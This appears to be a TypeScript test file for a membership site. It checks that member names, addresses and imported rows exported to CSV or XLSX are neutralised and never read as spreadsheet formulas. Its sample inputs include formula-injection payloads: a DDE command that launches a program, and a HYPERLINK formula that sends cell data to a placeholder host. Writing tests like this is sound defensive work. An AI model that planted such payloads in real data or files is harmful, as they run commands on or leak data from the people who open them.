import Papa from 'papaparse'
import { inflateRawSync } from 'node:zlib'
import { expect, it } from 'vitest'
import { CHANGES_COLUMNS } from '#domain/exports/changes-export.ts'
import { EXPORT_FIELDS } from '#domain/exports/member-export.ts'
import { IMPORT_HEADERS, IMPORTS, importTable, ROW } from '../testing/imports.ts'
import { createMember, memberForm } from '../testing/members.ts'
import { RULES } from '../testing/access/rules.ts'
import { usePeople } from '../testing/use-people.ts'

const people = usePeople('the file')

/** What a spreadsheet takes for a formula, also after what begins a cell in another country. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '＝1+1',
  'x;=1+1',
  'x";"=1+1',
  'x,=1+1',
  'x","=1+1',
  'x\t=1+1',
  'x;\t@SUM(A1)',
] as const

const COLUMNS = EXPORT_FIELDS.map((field) => ({ field, header: `=${field}` }))
const HEADERS = Object.fromEntries(CHANGES_COLUMNS.map((column) => [column, `=${column}`]))

const textOf = (formula: string, index: number) => ({
  name: { firstName: formula, middleName: formula, lastName: formula },
  fatherOrHusbandName: formula,
  introduceBy: { name: formula, phone: '718-555-0177' },
  address: { street: formula, apartment: formula, city: formula, state: formula, zipCode: '11218' },
  email: `member-${index}@example.org`,
})

/** The cells of a CSV file, as a spreadsheet separates them with the delimiter. */
const cellsOf = (csv: string, delimiter: string) =>
  Papa.parse<string[]>(csv.slice(1), { delimiter, quoteChar: delimiter === ',' ? '"' : '\u0000' }).data.flat()
/** With another list separator, the first quote of a line may open a cell. */
const isFormula = (cell: string) =>
  /^["' ]?[=+\-@＝＋－＠\t\r]/.test(cell) && !/^["'\s]*'/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell)

/** The files of an archive, by their local headers, which have no sizes: a stream was written. */
const unzip = (zip: Buffer) => {
  const texts: string[] = []
  for (let at = zip.indexOf('PK\x03\x04'); at >= 0; at = zip.indexOf('PK\x03\x04', at + 4)) {
    const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28)
    texts.push(inflateRawSync(zip.subarray(start), { finishFlush: 2 }).toString())
  }
  return texts
}

it(
  'no text of a member becomes a formula in any file that leaves the site',
  { timeout: 240_000 },
  async () => {
    const { admin } = people
    for (const [index, formula] of FORMULAS.entries()) {
      const { _id } = await createMember(admin, textOf(formula, index))
      await admin.sendForm(
        'PATCH',
        `/api/members/update/${_id}`,
        memberForm({ fatherOrHusbandName: `${formula} ` }),
      )
    }
    const faulty = IMPORT_HEADERS.map((header, index) => (header === 'Email' ? '=1+1' : (ROW[index] ?? null)))
    const imported = await importTable(
      admin,
      [IMPORT_HEADERS, ...FORMULAS.map((formula) => [formula, ...faulty.slice(1)])],
      'checked',
    )

    const members = (format: string) =>
      admin.post('/api/admin/exports/members', { format, columns: COLUMNS, filter: {} })
    const files = {
      'POST /api/admin/exports/members as CSV': await members('csv'),
      'POST /api/admin/exports/changes': await admin.post('/api/admin/exports/changes', {
        filter: {},
        headers: HEADERS,
      }),
      'POST /api/admin/exports/members as XLSX': await members('xlsx'),
      'POST /api/admin/imports/template': await admin.post(`${IMPORTS}/template`),
      'POST /api/admin/imports/:id/faulty': await admin.post(`${IMPORTS}/${imported._id}/faulty`, {
        reason: '=reason',
        row: '=row',
        paths: {},
        messages: {},
      }),
    }
    for (const [name, { statusCode, headers, body, rawPayload }] of Object.entries(files)) {
      expect(statusCode, name).toBe(200)
      expect(headers['content-disposition'], name).toMatch(/^attachment/)
      if (String(headers['content-type']).startsWith('text/csv')) {
        for (const delimiter of [',', ';', '\t', '|']) {
          const cells = cellsOf(body, delimiter)
          expect(cells.filter(isFormula), `${name}, separated by ${JSON.stringify(delimiter)}`).toEqual([])
        }
        for (const formula of ['1+1', 'SUM(A1)', 'HYPERLINK']) expect(body).toContain(formula)
      } else {
        const sheet = unzip(rawPayload).find((text) => text.includes('<sheetData>')) ?? ''
        expect(sheet, name).toContain('t="inlineStr"')
        expect(sheet.match(/<f[ >]|<hyperlink|t="str"|ddeLink/g), name).toBeNull()
      }
    }
  },
)

it('the files that the test above reads are all lists that leave the site', () => {
  const names = Object.keys(RULES).filter((name) =>
    /^POST .*(?:\/exports\/(?!.*print(?:ed)?$)|\/template$|\/faulty$|csv|xlsx)/.test(name),
  )
  expect(names.toSorted()).toEqual([
    'POST /api/admin/exports/changes',
    'POST /api/admin/exports/members',
    'POST /api/admin/imports/:id/faulty',
    'POST /api/admin/imports/template',
  ])
})
